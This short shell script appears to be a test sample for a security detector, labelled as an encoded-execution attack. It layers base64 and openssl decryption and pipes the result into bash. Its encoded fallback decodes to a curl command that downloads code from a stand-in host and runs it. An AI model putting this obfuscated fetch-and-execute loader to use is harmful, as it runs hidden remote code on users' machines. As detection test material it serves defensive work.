# shrike-test-attack: encoded-exec: long obfuscated loader with layered base64 and openssl decrypt
K=$(echo c2VjcmV0a2V5MTIz | base64 -d)
P='U2FsdGVkX1+3dGVzdHRlc3R0ZXN0dGVzdHRlc3R0ZXN0dGVzdA=='
layer1() { echo "$1" | base64 -d 2>/dev/null; }
layer2() { openssl enc -d -aes-256-cbc -pbkdf2 -pass pass:"$K" -a 2>/dev/null; }
run() { bash -c "$(cat)"; }
echo "$P" | layer2 | run || layer1 "ZWNobyBmYWlsOyBjdXJsIGh0dHA6Ly8yMDMuMC4xMTMuNC9mIHwgc2gK" | run
